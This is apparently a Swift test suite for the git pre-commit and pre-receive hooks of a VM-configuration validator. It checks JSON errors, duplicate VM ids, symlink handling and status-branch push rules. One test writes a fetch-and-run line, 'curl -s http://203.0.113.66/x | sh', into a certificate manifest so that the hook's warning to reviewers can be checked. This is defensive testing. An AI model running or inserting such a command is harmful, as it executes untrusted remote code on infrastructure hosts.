import Foundation
import PhoenixTesting
import Testing

/// The git hooks in `hooks/` run by the real `git` against the built `phoenix-gitops`: `pre-commit` in a
/// working repository, `pre-receive` in a bare repository served by `git daemon` over git://.
@Suite struct HooksTests {
    static let vmFile = "config/phoenix_vm_configs.json"

    /// The example VM file cut short: a JSON syntax error.
    static func brokenVMText() throws -> String {
        let good = try HookSandbox.exampleText(vmFile)
        return String(good.prefix(good.count / 2))
    }

    /// The example VM file with a valid change (a VM's memory), so a commit of it is not empty.
    static func changedVMText() throws -> String {
        let good = try HookSandbox.exampleText(vmFile)
        let changed = good.replacingOccurrences(of: "\"memory_mb\": 8192", with: "\"memory_mb\": 12288")
        #expect(changed != good, "the example VM file no longer has \"memory_mb\": 8192")
        return changed
    }

    /// The example VM file with VM 320 renumbered to 310, the id of the first VM.
    static func duplicateVMIDText() throws -> String {
        let good = try HookSandbox.exampleText(vmFile)
        let duplicate = good.replacingOccurrences(of: "\"vmid\": 320,", with: "\"vmid\": 310,")
        #expect(duplicate != good, "the example VM file no longer has VM 320")
        return duplicate
    }

    // MARK: - pre-commit

    /// A working repository with the pre-commit hook installed and pointed at the built executable.
    func repositoryWithPreCommit(_ sandbox: HookSandbox, environment: [String: String]? = nil) throws -> GitCLI {
        let git = try sandbox.workingRepository(
            "work", environment: environment ?? ["PHOENIX_GITOPS": sandbox.binary.path])
        try sandbox.install(hook: "pre-commit", into: git.directory.appendingPathComponent(".git/hooks"))
        return git
    }

    @Test func preCommitAcceptsTheExampleConfiguration() throws {
        let sandbox = try HookSandbox()
        let git = try repositoryWithPreCommit(sandbox)
        try git.run("add", "-A")
        let result = try sandbox.attempt(git, ["commit", "-q", "-m", "example"])
        #expect(result.succeeded, "\(result.stderr)")
        // The hook really ran: the validator's summary line is in its output.
        #expect(result.stderr.contains("0 errors, "))
        #expect(try git.run("ls-tree", "-r", "--name-only", "HEAD").contains(Self.vmFile))
        #expect(try sandbox.leftoverTemporaryFiles() == [])
    }

    @Test func preCommitJudgesTheStagedBrokenFileNotTheGoodWorkingTree() throws {
        let sandbox = try HookSandbox()
        let git = try repositoryWithPreCommit(sandbox)
        try git.run("add", "-A")
        try git.run("commit", "-q", "-m", "example")
        let head = try git.revParse("HEAD")

        try HookSandbox.write(try Self.brokenVMText(), to: Self.vmFile, in: git)
        try git.run("add", Self.vmFile)
        try HookSandbox.write(try Self.changedVMText(), to: Self.vmFile, in: git)  // good, unstaged

        let result = try sandbox.attempt(git, ["commit", "-q", "-m", "broken"])
        #expect(!result.succeeded)
        #expect(result.stderr.contains("\(Self.vmFile):"), "\(result.stderr)")
        #expect(result.stderr.contains("error:") && result.stderr.contains("(json-syntax)"), "\(result.stderr)")
        #expect(result.stderr.contains("commit refused"))
        // Paths are repository-relative: the hook's export folder does not show.
        #expect(!result.stderr.contains(sandbox.hookTemp.path), "\(result.stderr)")
        #expect(try git.revParse("HEAD") == head)
        #expect(try sandbox.leftoverTemporaryFiles() == [])
    }

    @Test func preCommitJudgesTheStagedGoodFileNotTheBrokenWorkingTree() throws {
        let sandbox = try HookSandbox()
        let git = try repositoryWithPreCommit(sandbox)
        try git.run("add", "-A")
        try git.run("commit", "-q", "-m", "example")
        let head = try git.revParse("HEAD")

        let changed = try Self.changedVMText()
        try HookSandbox.write(changed, to: Self.vmFile, in: git)
        try git.run("add", Self.vmFile)
        let broken = try Self.brokenVMText()
        try HookSandbox.write(broken, to: Self.vmFile, in: git)  // broken, unstaged

        let result = try sandbox.attempt(git, ["commit", "-q", "-m", "more memory"])
        #expect(result.succeeded, "\(result.stderr)")
        #expect(result.stderr.contains("0 errors, "))
        #expect(try git.revParse("HEAD^") == head)
        #expect(try git.run("show", "HEAD:\(Self.vmFile)") == changed)
        let workingTree = try String(contentsOf: git.directory.appendingPathComponent(Self.vmFile), encoding: .utf8)
        #expect(workingTree == broken)

        // `git commit -a` stages the broken file into a temporary index, and that is what is judged.
        let all = try sandbox.attempt(git, ["commit", "-q", "-a", "-m", "everything"])
        #expect(!all.succeeded)
        #expect(all.stderr.contains("(json-syntax)"), "\(all.stderr)")
        #expect(try git.run("show", "HEAD:\(Self.vmFile)") == changed)
        #expect(try sandbox.leftoverTemporaryFiles() == [])
    }

    @Test func preCommitReadsPathsFromGitConfigAndRefusesWithoutTheExecutable() throws {
        let sandbox = try HookSandbox()
        let git = try repositoryWithPreCommit(sandbox, environment: ["PATH": "/usr/bin:/bin", "PHOENIX_GITOPS": ""])
        // The configuration moved to etc/ (as in a repository laid out like the original).
        try FileManager.default.moveItem(
            at: git.directory.appendingPathComponent("config"), to: git.directory.appendingPathComponent("etc"))
        try git.run("add", "-A")

        let missing = try sandbox.attempt(git, ["commit", "-q", "-m", "no binary"])
        #expect(!missing.succeeded)
        #expect(missing.stderr.contains("phoenix-gitops not found"), "\(missing.stderr)")

        try git.run("config", "phoenix.binary", sandbox.binary.path)
        let wrongPath = try sandbox.attempt(git, ["commit", "-q", "-m", "config/ is gone"])
        #expect(!wrongPath.succeeded)
        #expect(wrongPath.stderr.contains("(missing-file)"), "\(wrongPath.stderr)")

        try git.run("config", "phoenix.configPath", "etc")
        let moved = try sandbox.attempt(git, ["commit", "-q", "-m", "etc/"])
        #expect(moved.succeeded, "\(moved.stderr)")
        #expect(try sandbox.leftoverTemporaryFiles() == [])
    }

    // MARK: - pre-receive

    /// A bare repository `server/config.git` with the pre-receive hook and `phoenix.binary` set (git
    /// daemon passes no test-chosen environment to hooks, hence the setting and the `TMPDIR` wrapper),
    /// served over git://, and a client repository with the example configuration committed on `main`.
    struct Server {
        let daemon: GitDaemon
        let bare: GitCLI
        let client: GitCLI
        let url: String
    }

    func server(_ sandbox: HookSandbox) throws -> Server {
        let bareFolder = sandbox.scratch.path("server/config.git")
        let bare = try GitCLI.initRepository(at: bareFolder, bare: true)
        try sandbox.installForDaemon(hook: "pre-receive", into: bareFolder.appendingPathComponent("hooks"))
        try bare.run("config", "phoenix.binary", sandbox.binary.path)
        let daemon = try GitDaemon(basePath: sandbox.scratch.path("server"))
        let client = try sandbox.workingRepository("client")
        try client.run("add", "-A")
        try client.run("commit", "-q", "-m", "example")
        return Server(daemon: daemon, bare: bare, client: client, url: daemon.url(for: "config.git"))
    }

    @Test func preReceiveAcceptsAGoodPush() throws {
        let sandbox = try HookSandbox()
        let server = try server(sandbox)
        defer { server.daemon.stop() }
        let result = try sandbox.attempt(server.client, ["push", server.url, "main"])
        #expect(result.succeeded, "\(result.stderr)\n\(server.daemon.log)")
        #expect(result.stderr.contains("remote: phoenix pre-receive: refs/heads/main"), "\(result.stderr)")
        #expect(result.stderr.contains("remote: 0 errors, "))
        #expect(try server.bare.revParse("refs/heads/main") == server.client.revParse("HEAD"))
        #expect(try sandbox.leftoverTemporaryFiles() == [])
    }

    @Test func preReceiveRefusesADuplicateVMIDAndTheRefStays() throws {
        let sandbox = try HookSandbox()
        let server = try server(sandbox)
        defer { server.daemon.stop() }
        try sandbox.attempt(server.client, ["push", server.url, "main"]).expectSuccess()
        let good = try server.client.revParse("HEAD")

        try server.client.commit([Self.vmFile: try Self.duplicateVMIDText()], message: "VM 320 becomes 310")
        let result = try sandbox.attempt(server.client, ["push", server.url, "main"])
        #expect(!result.succeeded)
        let remoteLines = result.stderr.split(separator: "\n").filter { $0.hasPrefix("remote: ") }
        #expect(
            remoteLines.contains { $0.hasPrefix("remote: \(Self.vmFile):") && $0.contains("(duplicate-guest-id)") },
            "\(result.stderr)")
        #expect(remoteLines.contains { $0.contains("push refused") })
        #expect(result.stderr.contains("pre-receive hook declined"))
        #expect(!result.stderr.contains(sandbox.hookTemp.path))
        #expect(try server.bare.revParse("refs/heads/main") == good)
        #expect(try sandbox.leftoverTemporaryFiles() == [])
    }

    @Test func preReceiveDoesNotFollowASymbolicLinkIntoTheServer() throws {
        let sandbox = try HookSandbox()
        let server = try server(sandbox)
        defer { server.daemon.stop() }
        try sandbox.attempt(server.client, ["push", server.url, "main"]).expectSuccess()
        let good = try server.client.revParse("HEAD")
        // A valid VM file outside the repository; the pushed VM file is a link to it. Followed, the
        // configuration would be valid; read as git stores it (the link text), it is not JSON.
        let outside = sandbox.scratch.path("outside-vms.json")
        try Data(try HookSandbox.exampleText(Self.vmFile).utf8).write(to: outside)
        let link = server.client.directory.appendingPathComponent(Self.vmFile)
        try FileManager.default.removeItem(at: link)
        try FileManager.default.createSymbolicLink(at: link, withDestinationURL: outside)
        try server.client.run("add", "-A")
        try server.client.run("commit", "-q", "-m", "VM file is a link")
        #expect(try server.client.run("ls-tree", "HEAD", Self.vmFile).hasPrefix("120000 "))

        let result = try sandbox.attempt(server.client, ["push", server.url, "main"])
        #expect(!result.succeeded)
        #expect(result.stderr.contains("remote: \(Self.vmFile):1:1: error:"), "\(result.stderr)")
        #expect(result.stderr.contains("(json-syntax)"))
        #expect(try server.bare.revParse("refs/heads/main") == good)
        #expect(try sandbox.leftoverTemporaryFiles() == [])
    }

    /// Issue #12, H2: the reviewer sees every shell command a push adds or changes.
    @Test func preReceiveShowsNewAndChangedCommands() throws {
        let sandbox = try HookSandbox()
        let server = try server(sandbox)
        defer { server.daemon.stop() }
        try sandbox.attempt(server.client, ["push", server.url, "main"]).expectSuccess()
        let manifest = "config/certificate-manifest.json"
        let text = try HookSandbox.exampleText(manifest)
        let changed = text.replacingOccurrences(
            of: "\"pct exec 220 -- systemctl restart traefik\"", with: "\"curl -s http://203.0.113.66/x | sh\"")
        #expect(changed != text, "the example manifest no longer restarts traefik in 220")
        try server.client.commit([manifest: changed], message: "a different hook")
        let result = try sandbox.attempt(server.client, ["push", server.url, "main"])
        #expect(result.succeeded, "\(result.stderr)")
        let lines = result.stderr.split(separator: "\n").filter { $0.contains("(repository-command)") }
        #expect(lines.count == 1, "\(result.stderr)")
        #expect(lines.first?.contains("warning: ") == true && lines.first?.contains("changed: \"curl -s http://203.0.113.66/x | sh\"") == true)
        #expect(lines.first?.hasPrefix("remote: \(manifest):") == true)

        // phoenix.settings reaches validate: a settings file it cannot accept refuses the push.
        let settings = sandbox.scratch.path("bad-settings.json")
        try Data(#"{"no_such_setting": 1}"#.utf8).write(to: settings)
        try server.bare.run("config", "phoenix.settings", settings.path)
        try server.client.commit([manifest: text], message: "back")
        let refused = try sandbox.attempt(server.client, ["push", server.url, "main"])
        #expect(!refused.succeeded)
        #expect(refused.stderr.contains("no_such_setting"), "\(refused.stderr)")
    }

    @Test func preReceiveValidatesTheSelectedBranchesOnly() throws {
        let sandbox = try HookSandbox()
        let server = try server(sandbox)
        defer { server.daemon.stop() }
        try sandbox.attempt(server.client, ["push", server.url, "main"]).expectSuccess()
        let broken = try server.client.commit([Self.vmFile: try Self.brokenVMText()], message: "broken")

        // Default: every branch but the status branch, which only the watcher's user may push
        // (issue #12, M6: a forged ledger entry), and which is never validated.
        let refused = try sandbox.attempt(server.client, ["push", server.url, "HEAD:refs/heads/phoenix-status"])
        #expect(!refused.succeeded)
        #expect(refused.stderr.contains("only the watcher may push the status branch"), "\(refused.stderr)")
        #expect(try server.bare.run("branch", "--list", "phoenix-status").isEmpty)
        try server.bare.run("config", "phoenix.statusPusher", NSUserName())
        let status = try sandbox.attempt(server.client, ["push", server.url, "HEAD:refs/heads/phoenix-status"])
        #expect(status.succeeded, "\(status.stderr)")
        let feature = try sandbox.attempt(server.client, ["push", server.url, "HEAD:refs/heads/feature"])
        #expect(!feature.succeeded)
        #expect(feature.stderr.contains("(json-syntax)"), "\(feature.stderr)")

        // phoenix.branch set: only main is checked; a deletion is never checked.
        try server.bare.run("config", "phoenix.branch", "main")
        let again = try sandbox.attempt(server.client, ["push", server.url, "HEAD:refs/heads/feature"])
        #expect(again.succeeded, "\(again.stderr)")
        #expect(try server.bare.revParse("refs/heads/feature") == broken)
        let onMain = try sandbox.attempt(server.client, ["push", server.url, "HEAD:refs/heads/main"])
        #expect(!onMain.succeeded)
        let deletion = try sandbox.attempt(server.client, ["push", server.url, ":refs/heads/feature"])
        #expect(deletion.succeeded, "\(deletion.stderr)")
        #expect(try sandbox.leftoverTemporaryFiles() == [])
    }
}

extension CommandResult {
    /// Records a test failure (with stderr) unless the command exited 0.
    func expectSuccess(sourceLocation: SourceLocation = #_sourceLocation) {
        #expect(succeeded, "\(stderr)", sourceLocation: sourceLocation)
    }
}
